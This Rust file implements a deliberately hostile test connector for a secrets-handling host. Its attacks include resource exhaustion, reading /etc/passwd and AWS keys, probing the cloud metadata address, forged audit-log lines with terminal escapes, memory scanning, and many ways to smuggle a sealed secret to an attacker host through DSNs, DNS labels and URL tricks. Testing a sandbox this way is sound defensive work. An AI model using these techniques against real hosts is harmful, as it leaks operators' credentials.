//! A connector that misbehaves on request (`mode`), holding a sealed secret
//! (`secret`), so tests can prove the host contains each kind of attack:
//! resource exhaustion, host-call floods, forged host lines, and every
//! channel through which a connector could try to get a secret out.

use std::cell::RefCell;
use std::hint::black_box;
use std::sync::atomic::{AtomicU32, Ordering};

use keyward_guest::{
    Connector, ConnectorInfo, Field, Fields, Level, Output, RenderError, Text, compose, invalidate,
    list_secrets, log, reveal,
};

struct Hostile;

/// Renders done by this instance (mode `global-count`).
static RENDERS: AtomicU32 = AtomicU32::new(0);

thread_local! {
    /// What a render kept for the next one in a warm instance: a sealed
    /// handle, and plaintext if it could reveal any.
    static STASH: RefCell<(Option<u64>, String)> = RefCell::default();
}

impl Connector for Hostile {
    fn info() -> ConnectorInfo {
        ConnectorInfo::new("hostile", "0.3.0", "Misbehaves on request")
            .field(Field::new("mode", "What to do").required())
            .field(Field::new("secret", "Read before misbehaving").sensitive())
            .field(Field::new(
                "needle",
                "Mode scan: the text to look for, reversed",
            ))
            .field(Field::new(
                "address",
                "Mode network: the host:port to connect to",
            ))
            // Mode egress: declared exactly as the postgres and http-api
            // examples declare theirs.
            .field(Field::new("host", "Mode egress: the database host").host())
            .field(Field::new("port", "Mode egress: the database port").port())
            .field(Field::new("database", "Mode egress: the database").resource())
            .field(Field::new("base_url", "Mode egress: the API's base URL").url())
            .field(Field::new(
                "attack",
                "Mode egress: which redirection to try",
            ))
            .field(Field::new(
                "attacker",
                "Mode egress: the attacker's host (and port)",
            ))
            .field(Field::new(
                "count",
                "Modes many-outputs, amplify, lift: how many outputs",
            ))
            .field(Field::new(
                "size",
                "Modes huge-error, huge-log, lift, padded: how many bytes (amplify: doublings)",
            ))
    }

    fn render(fields: &Fields) -> Result<Vec<Output>, RenderError> {
        let plain = |name: &str| fields.plain(name).map(Option::unwrap_or_default);
        let result = match plain("mode")? {
            "ok" => "fine".to_string(),
            "scan" => scan_memory_for_reversed(plain("needle")?),
            "loop" => loop {
                black_box(0u64);
            },
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 64 << 20]);
                    black_box(&hoard);
                }
            }
            "recursion" => recurse(black_box(u64::MAX)).to_string(),
            "panic" => panic!("the connector gave up"),
            "huge-name" => {
                invalidate(&format!("{{{{ secrets['{}'] }}}}", "x".repeat(4 << 20))).to_string()
            }
            "random" => {
                let bytes = wasip2::random::random::get_random_bytes(4 << 30);
                format!("got {} random bytes", bytes.len())
            }
            "fs" => match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => format!("read {} bytes", text.len()),
                Err(e) => format!("denied: {e}"),
            },
            "env" => format!(
                "vars={} aws={:?}",
                std::env::vars().count(),
                std::env::var("AWS_SECRET_ACCESS_KEY").ok()
            ),
            "network" => {
                let address = plain("address")?;
                let address = if address.is_empty() {
                    "169.254.169.254:80"
                } else {
                    address
                };
                match std::net::TcpStream::connect(address) {
                    Ok(_) => "connected".into(),
                    Err(e) => format!("denied: {:?}: {e}", e.kind()),
                }
            }
            "list" => list_secrets().join(","),
            "list-loop" => loop {
                black_box(list_secrets());
            },
            "huge-key-loop" => {
                let reference = format!("{{{{ secrets.key['{}'] }}}}", "k".repeat(4 << 20));
                loop {
                    black_box(invalidate(&reference));
                }
            }
            "denied-loop" => loop {
                for i in 0..256 {
                    black_box(invalidate(&format!("{{{{ secrets.forbidden.k{i} }}}}")));
                }
            },
            "missing-loop" => {
                for i in 0.. {
                    black_box(invalidate(&format!("{{{{ secrets['missing/{i}'] }}}}")));
                }
                "unreachable".into()
            }
            "invalidate-probe" => {
                // An allowed name that does not exist, and a denied one,
                // each twice: the answers must not tell them apart.
                let allowed = "{{ secrets['missing/x'] }}";
                let denied = "{{ secrets['forbidden/x'] }}";
                format!(
                    "{} {} {} {}",
                    invalidate(allowed),
                    invalidate(denied),
                    invalidate(allowed),
                    invalidate(denied)
                )
            }
            "forge" => {
                log(
                    Level::Info,
                    "ok\n2026-01-01T00:00:00.000Z  INFO keyward::audit: {\"decision\":\"allowed\"}\r\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m",
                );
                return Err(RenderError::field(
                    "mode\n  db  ok",
                    "fine\nconnector x:\n  {{ secrets.db }}  ok\u{1b}[31m",
                ));
            }
            "forge-output" => {
                return Ok(vec![Output::credential("result\n\u{1b}[31mfake", "x")]);
            }
            "log" => {
                log(Level::Warn, "hostile logs one line per render");
                "logged".into()
            }
            "log-flood" => {
                for i in 0..100_000 {
                    log(Level::Info, &format!("hostile log line {i}"));
                }
                "flooded".into()
            }
            "stdout" => {
                let secret = fields
                    .get("secret")
                    .map(|s| format!("{s:?}"))
                    .unwrap_or_default();
                println!("stdout: {secret}");
                eprintln!("stderr: {secret}");
                "printed".into()
            }
            "exfiltrate" => return exfiltrate(fields.require("secret")?),
            "egress" => return egress(fields, plain("attack")?, plain("attacker")?),
            "many-outputs" | "amplify" | "lift" | "padded" | "huge-error" | "huge-log" => {
                let number = |name: &str| -> Result<usize, RenderError> {
                    plain(name)?
                        .parse()
                        .map_err(|_| RenderError::field(name, "must be a number"))
                };
                return bulk(fields, plain("mode")?, number("count"), number("size"));
            }
            "exfiltrate-name" => {
                let text = reveal(fields.require("secret")?)?;
                return Ok(vec![Output::credential(&format!("name-{text}"), "x")]);
            }
            "exfiltrate-error" => {
                let secret = fields.require("secret")?;
                let text = reveal(secret).unwrap_or_else(|e| format!("{secret:?} ({})", e.message));
                return Err(RenderError::field(
                    &format!("field {text}"),
                    format!("error {text} {}", encodings(&text).join(" ")),
                ));
            }
            "stash" => {
                let secret = fields.require("secret")?;
                let revealed = reveal(secret).unwrap_or_default();
                STASH.with(|s| *s.borrow_mut() = (secret.__handle(), revealed));
                "stashed".into()
            }
            "unstash" => STASH.with(|s| s.borrow().1.clone()),
            // What a planned render must make a function of its
            // configuration: the clocks, random, a global's state and the
            // handles' numbers.
            "clock" => {
                let wall = std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.as_nanos())
                    .unwrap_or_default();
                let started = std::time::Instant::now();
                format!("wall {wall} elapsed {}", started.elapsed().as_nanos())
            }
            "random-bytes" => wasip2::random::random::get_random_bytes(16)
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect(),
            "global-count" => {
                let renders = RENDERS.fetch_add(1, Ordering::Relaxed) + 1;
                format!("render {renders} of this instance")
            }
            "handle-number" => {
                let handle = fields.get("secret").and_then(Text::__handle);
                return Ok(vec![
                    Output::credential("result", format!("handle {handle:?}")),
                    Output::secret("secret", Text::__from_handle(handle.unwrap_or_default())),
                ]);
            }
            "unstash-handle" => {
                let handle = STASH.with(|s| s.borrow().0).unwrap_or_default();
                return Ok(vec![Output::credential(
                    "result",
                    Text::__from_handle(handle),
                )]);
            }
            other => {
                return Err(RenderError::field(
                    "mode",
                    format!("unknown mode `{other}`"),
                ));
            }
        };
        Ok(vec![Output::credential("result", result)])
    }
}

/// Costs the host all it can after the guest returns: many outputs, each a
/// chain of `size` doublings of the secret that evaluates to megabytes from
/// a few hundred bytes of composition (`amplify`); outputs whose text, lifted, is more than the
/// host may allocate for one call (`lift`); a render error or a log line of
/// `size` ESC bytes; padding beside the secret (`padded`), for a caller
/// bisecting the size error to learn the secret's length.
fn bulk(
    fields: &Fields,
    mode: &str,
    count: Result<usize, RenderError>,
    size: Result<usize, RenderError>,
) -> Result<Vec<Output>, RenderError> {
    let secret = || fields.require("secret").cloned();
    match mode {
        "many-outputs" => Ok((0..count?)
            .map(|i| Output::setting(&format!("out-{i}"), "x"))
            .collect()),
        "amplify" => {
            let mut text = secret()?;
            for _ in 0..size? {
                text = compose![text.clone(), text];
            }
            Ok((0..count?)
                .map(|i| Output::credential(&format!("out-{i}"), text.clone()))
                .collect())
        }
        "lift" => {
            let size = size?;
            Ok((0..count?)
                .map(|i| {
                    Output::setting(
                        &format!("out-{i}"),
                        char::from(b'a' + (i % 26) as u8).to_string().repeat(size),
                    )
                })
                .collect())
        }
        "padded" => Ok(vec![Output::credential(
            "padded",
            compose!["p".repeat(size?), secret()?],
        )]),
        "huge-error" => Err(RenderError::field(
            &"\u{1b}".repeat(size.clone()?),
            "\u{1b}".repeat(size?),
        )),
        "huge-log" => {
            log(Level::Warn, &"\u{1b}".repeat(size?));
            Ok(vec![Output::setting("result", "logged")])
        }
        other => Err(RenderError::field(
            "mode",
            format!("unknown mode `{other}`"),
        )),
    }
}

/// Tries every channel a connector has with a sealed secret: plain
/// outputs in every encoding, output names, log lines, the audit log (as
/// a reference name, key and stage of `invalidate`). If the operator
/// granted reveal, it does all of that with the plaintext too, encoded in
/// every way it can think of.
fn exfiltrate(secret: &Text) -> Result<Vec<Output>, RenderError> {
    let mut out = vec![
        Output::credential("sealed", secret),
        Output::credential(
            "sealed-encoded",
            compose![
                secret.clone().percent(),
                secret.clone().form(),
                secret.clone().json_string(),
                secret.clone().base64(),
                secret.clone().base64url(),
                secret.clone().uri_host(),
            ],
        ),
        Output::credential(&format!("name {secret:?}"), "x"),
    ];
    log(Level::Warn, &format!("sealed {secret:?}"));
    let text = match reveal(secret) {
        Ok(text) => text,
        Err(e) => {
            log(Level::Warn, &format!("reveal refused: {}", e.message));
            out.push(Output::credential("reveal", e.message));
            return Ok(out);
        }
    };
    for (i, form) in encodings(&text).into_iter().enumerate() {
        log(Level::Warn, &format!("leak {i}: {form}"));
        out.push(Output::credential(&format!("leak-{i}"), form));
    }
    invalidate(&format!("{{{{ secrets['{text}'] }}}}"));
    invalidate(&format!("{{{{ secrets.db['{text}'] }}}}"));
    invalidate(&format!(
        "{{{{ arn:aws:secretsmanager:us-east-1:123456789012:secret:db:password:{text}: }}}}"
    ));
    out.push(Output::credential("revealed", text));
    Ok(out)
}

/// Tries to send the secret somewhere the operator did not configure, in
/// the way `attack` names; `honest` renders what the examples render.
fn egress(fields: &Fields, attack: &str, attacker: &str) -> Result<Vec<Output>, RenderError> {
    let secret = fields.require("secret")?.clone();
    let host = fields.get("host").cloned().unwrap_or_else(|| "".into());
    let port = fields.plain("port")?.unwrap_or("5432");
    let database = fields.get("database").cloned().unwrap_or_else(|| "".into());
    let base_url = fields.get("base_url").cloned().unwrap_or_else(|| "".into());
    let dsn = |to: Text, port: &str| {
        compose![
            "postgresql://app:",
            secret.clone().percent(),
            "@",
            to,
            format!(":{port}/"),
            database.clone().percent(),
        ]
    };
    let basic = compose!["Basic ", compose!["app:", secret.clone()].base64()];
    let api = |url: Text| {
        vec![
            Output::destination("base_url", url),
            Output::credential("authorization", basic.clone()),
        ]
    };
    let jira = |suffix: Text| compose![base_url.clone(), suffix];
    let plain_url = base_url.as_plain().unwrap_or_default().to_string();
    let outputs = match attack {
        "honest" => vec![
            Output::destination("dsn", dsn(host.clone().uri_host(), port)),
            Output::destination("host", host.clone()),
        ],
        "honest-api" => api(base_url.clone()),
        // The DSN goes to the attacker while `host` still says the real one.
        "dsn-host" => vec![
            Output::destination("dsn", dsn(attacker.into(), port)),
            Output::destination("host", host.clone()),
        ],
        "dsn-port" => vec![Output::destination("dsn", dsn(host.clone(), "6543"))],
        "dns-label" => vec![Output::destination(
            "dsn",
            dsn(compose![secret.clone().uri_host(), ".", attacker], port),
        )],
        "dns-label-base64url" => vec![Output::destination(
            "dsn",
            dsn(compose![secret.clone().base64url(), ".", attacker], port),
        )],
        "dns-label-percent" => vec![Output::destination(
            "dsn",
            dsn(compose![secret.clone().percent(), ".", attacker], port),
        )],
        "password-in-host" => vec![
            Output::destination("dsn", dsn(host.clone(), port)),
            Output::credential("host", secret.clone()),
        ],
        "secret-in-setting" => vec![
            Output::destination("dsn", dsn(host.clone(), port)),
            Output::setting("application_name", secret.clone()),
        ],
        "second-destination" => vec![
            Output::destination("dsn", dsn(host.clone(), port)),
            Output::destination("replica", dsn(attacker.into(), port)),
        ],
        // The attacker's base URL, not sensitive, beside the real header.
        "base-url" => api(format!("https://{attacker}/").into()),
        "downgrade" => api(plain_url.replacen("https://", "http://", 1).into()),
        "other-port" => api(plain_url.replacen(".com/", ".com:8443/", 1).into()),
        "host-prefix" => api(format!("https://jira.example.com.{attacker}/rest/").into()),
        "host-suffix" => api("https://attacker-jira.example.com/rest/".into()),
        "userinfo" => api(format!("https://jira.example.com@{attacker}/rest/").into()),
        "backslash" => api(format!("https://{attacker}\\@jira.example.com/rest/").into()),
        "path" => api(jira(compose![secret.clone().percent(), "/api/2/myself"])),
        "query" => api(jira(compose!["?q=", secret.clone().percent()])),
        "fragment" => api(jira(compose!["#", secret.clone().percent()])),
        "url-in-credential" => vec![
            Output::destination("base_url", base_url.clone()),
            Output::credential(
                "callback",
                compose!["https://", attacker, "/?t=", secret.clone().percent()],
            ),
        ],
        other => {
            return Err(RenderError::field(
                "attack",
                format!("unknown attack `{other}`"),
            ));
        }
    };
    Ok(outputs)
}

/// The plaintext in the encodings the SDK offers, and in ones it does not.
fn encodings(text: &str) -> Vec<String> {
    let sdk = [
        Text::plain(text),
        Text::plain(text).percent(),
        Text::plain(text).form(),
        Text::plain(text).json_string(),
        Text::plain(text).base64(),
        Text::plain(text).base64url(),
    ];
    let mut forms: Vec<String> = sdk
        .iter()
        .map(|t| t.as_plain().unwrap_or_default().to_string())
        .collect();
    forms.push(text.bytes().map(|b| format!("{b:02x}")).collect());
    forms.push(text.chars().rev().collect());
    forms
}

/// Looks through all of linear memory for the text whose reverse is
/// `reversed`, without ever building that text, so whatever it finds was
/// left there by an earlier render of this instance.
fn scan_memory_for_reversed(reversed: &str) -> String {
    let needle = reversed.as_bytes();
    let Some(&first) = needle.last() else {
        return "empty needle".into();
    };
    let read = |address: usize| -> u8 {
        // SAFETY: every address below the memory size is in bounds in a
        // wasm linear memory; this connector is hostile on purpose.
        unsafe { std::ptr::read_volatile(address as *const u8) }
    };
    #[cfg(target_arch = "wasm32")]
    let size = core::arch::wasm32::memory_size(0) * 65536;
    #[cfg(not(target_arch = "wasm32"))]
    let size: usize = 0;
    for address in 1..size.saturating_sub(needle.len()) {
        if read(address) == first
            && (1..needle.len()).all(|i| read(address + i) == needle[needle.len() - 1 - i])
        {
            return format!("found at {address}");
        }
    }
    "clean".into()
}

fn recurse(n: u64) -> u64 {
    if n == 0 {
        0
    } else {
        1 + recurse(black_box(n - 1))
    }
}

keyward_guest::export_connector!(Hostile);
